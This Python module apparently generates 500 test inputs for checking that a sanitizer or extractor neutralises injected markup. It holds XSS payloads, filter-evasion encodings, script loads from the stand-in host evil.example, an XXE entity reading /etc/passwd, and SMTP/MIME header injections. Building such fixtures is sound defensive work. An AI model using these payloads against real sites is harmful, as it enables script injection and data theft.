"""Five hundred texts that try to become markup, a script or a request where they are shown; each calls ``pwn()``."""

from __future__ import annotations

import html
import itertools
from collections.abc import Callable
from urllib.parse import quote

SCRIPTS = (
    "<script>pwn()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwn()>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<a href=javascript:pwn() autofocus onfocus=pwn()>x</a>",
    "<form action=javascript:pwn()><button>x</button></form>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<template><script>pwn()</script></template>",
    "<xmp><p title='</xmp><svg/onload=pwn()>'>",
    "<select><style></select><svg/onload=pwn()></style>",
    "<marquee onstart=pwn()>x</marquee>",
    "<table background=//evil.example/x>",
    "<p style=background:url(//evil.example/x)>",
)
PREFIXES = (
    "",
    '">',
    "'>",
    "-->",
    "<!--parts-->",
    "]]>",
    "</p></div>",
    "</blockquote>",
    "</title></style></textarea>",
    "&lt;b&gt;",
    "{{7*7}}",
    "{% raw %}",
)
TWISTS: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: text.upper().replace("PWN()", "pwn()"),
    html.escape,  # what extraction makes of markup shown as text: it must stay text
    lambda text: text.replace("<", "&lt;").replace(">", "&gt"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    quote,
    lambda text: text.replace("<", "<\0"),
    lambda text: "\u202e" + text,
    lambda text: text.replace("=", "=\n"),
)
OTHERS = (
    '" onmouseover="pwn()" autofocus onfocus="pwn()" x="',
    "' onmouseover='pwn()' autofocus onfocus='pwn()' x='",
    "javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "expression(pwn())",
    "</script><script>pwn()</script>",
    "${pwn()}",
    "{{constructor.constructor('pwn()')()}}",
    "%3Cscript%3Epwn()%3C/script%3E",
    "https://evil.example/phish",
    "www.evil.example",
    "mailto:evil@evil.example",
    "=?utf-8?q?=3Cscript=3Epwn()=3C/script=3E?=",
    ".\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "\r\n--=_boundary--\r\nContent-Type: text/html\r\n\r\n<script>pwn()</script>",
    "[x](javascript:pwn())",
    "<![CDATA[<script>pwn()</script>]]>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "\u2028<script>pwn()</script>\u2029",
)


def payloads(count: int = 500) -> list[str]:
    """That many different texts, the plain ones first."""
    made = dict.fromkeys(
        [*OTHERS, *SCRIPTS]
        + [prefix + script for prefix, script in itertools.product(PREFIXES, SCRIPTS)]
        + [twist(script) for twist, script in itertools.product(TWISTS, SCRIPTS)]
    )
    assert len(made) >= count
    return list(made)[:count]
